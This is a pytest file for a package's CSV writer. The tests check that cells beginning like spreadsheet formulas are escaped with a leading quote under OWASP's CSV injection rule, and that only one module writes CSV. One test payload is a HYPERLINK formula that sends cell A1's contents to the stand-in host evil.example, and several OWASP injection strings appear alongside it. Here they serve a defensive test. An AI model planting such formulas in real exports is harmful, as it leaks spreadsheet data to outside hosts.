"""The one CSV writer (issue 23): a cell that begins like a spreadsheet formula is written with a
leading single quote and quoted (OWASP's CSV injection rule); numbers and ordinary text are
written as they are; and no other module of the package writes CSV by itself."""

import ast
import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest

from directory import csvfile

PACKAGE = Path(csvfile.__file__).parent


def _written(rows: list[dict], fieldnames: list[str]) -> str:
    handle = io.StringIO(newline="")
    csvfile.writer(handle, fieldnames).writerows(rows)
    return handle.getvalue()


@pytest.mark.parametrize("start", csvfile.FORMULA_STARTS)
def test_text_beginning_like_a_formula_gets_a_leading_quote(start):
    formula = f'{start}HYPERLINK("https://evil.example/?"&A1,"Book now")'
    assert csvfile.escape(formula) == "'" + formula
    handle = io.StringIO(newline="")
    csvfile.writer(handle, ["bio"]).writerow({"bio": formula})
    assert handle.getvalue() == '"bio"\r\n"\'' + formula.replace('"', '""') + '"\r\n'
    assert list(csv.reader(io.StringIO(handle.getvalue()))) == [["bio"], ["'" + formula]]


@pytest.mark.parametrize(
    ("given", "written"),
    [
        # OWASP's own examples: a separator or quote inside cannot start a new cell.
        ('=1+2";=1+2', '"\'=1+2"";=1+2"'),
        ("=1+2'\" ;,=1+2", '"\'=1+2\'"" ;,=1+2"'),
        # Numbers in text columns are text: escaped too (a spreadsheet would compute -5).
        ("-5", '"\'-5"'),
        ("+1 201 555 0100", '"\'+1 201 555 0100"'),
        ("@home visits", '"\'@home visits"'),
        # Ordinary text, and what OWASP does not list, is written as it is, quoted.
        ("Deep tissue massage", '"Deep tissue massage"'),
        ("07030", '"07030"'),
        ("(201) 555-0100", '"(201) 555-0100"'),
        ("Sports - recovery", '"Sports - recovery"'),
        ("'tis the season", '"\'tis the season"'),
        ("\uff1dSUM(1)", '"\uff1dSUM(1)"'),  # full-width equals: not in OWASP's list
        ("", '""'),
    ],
)
def test_cells_as_written(given, written):
    assert _written([{"a": given}], ["a"]) == f'"a"\r\n{written}\r\n'


def test_numbers_stay_numbers_and_none_is_empty():
    for number in (-5, -74.03, 40.7433, 0, Decimal("-12.50")):
        assert csvfile.escape(number) == number
    assert csvfile.escape(None) is None
    row = {"name": "-74.03", "longitude": -74.03, "count": -5, "note": None}
    assert _written([row], list(row)) == (
        '"name","longitude","count","note"\r\n"\'-74.03",-74.03,-5,""\r\n'
    )
    # Read back as a spreadsheet that keeps quoted cells as text does: numbers are numbers.
    [_, back] = csv.reader(io.StringIO(_written([row], list(row))), quoting=csv.QUOTE_NONNUMERIC)
    assert back == ["'-74.03", -74.03, -5.0, ""]


def test_only_this_module_writes_csv():
    """Every CSV the package writes goes through csvfile: no other module imports csv."""
    importers = []
    for path in sorted(PACKAGE.rglob("*.py")):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            names = []
            if isinstance(node, ast.Import):
                names = [alias.name for alias in node.names]
            elif isinstance(node, ast.ImportFrom) and node.level == 0:
                names = [node.module or ""]
            if any(name == "csv" or name.startswith("csv.") for name in names):
                importers.append(path.relative_to(PACKAGE).as_posix())
    assert importers == ["csvfile.py"]
